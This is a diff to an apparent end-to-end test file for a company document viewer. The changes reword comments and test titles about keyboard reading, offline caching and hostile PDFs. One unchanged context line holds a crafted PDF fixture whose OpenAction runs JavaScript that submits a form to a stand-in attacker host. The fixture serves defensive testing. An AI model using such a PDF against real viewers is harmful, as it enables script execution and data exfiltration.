@@ -1,4 +1,4 @@
-/** Documents of the company's, shown in the page: read, searched, enlarged, saved, opened again without network. */
+/** Company documents, shown in the page: read, searched, zoomed, saved, opened again without network. */
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { messages } from '../../../src/shared/messages.ts'
@@ -53,7 +53,7 @@ test('a policy is read in the page by keyboard: its pages, its words, its size; 
   await expect(dialog).toBeHidden()
   await expect(open).toBeFocused()
 
-  // What was opened once lies on the disk.
+  // A document that was opened once is on the disk.
   await portal.misbehave({ kind: 'reset', call: 'media', times: 50 })
   await portal.misbehave({ kind: 'reset', call: 'policies.url', times: 50 })
   await window.reload()
@@ -64,7 +64,7 @@ test('a policy is read in the page by keyboard: its pages, its words, its size; 
   await expect(window.getByRole('alert')).toContainText(messages.offline)
 })
 
-/** A PDF that would run a script, and leads to another host. */
+/** A PDF that would run a script, and links to another host. */
 const HOSTILE = [
   '%PDF-1.4',
   '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example.com"\\)) >> >> endobj',
@@ -75,7 +75,7 @@ const HOSTILE = [
   '%%EOF',
 ].join('\n')
 
-test('what a hostile PDF would do isn’t done; one that can’t be read says so', async ({ window, enter }) => {
+test('a hostile PDF does nothing; one that can’t be read says so', async ({ window, enter }) => {
   const strange: string[] = []
   const dialogs: string[] = []
   await enter('/home/account/policies')
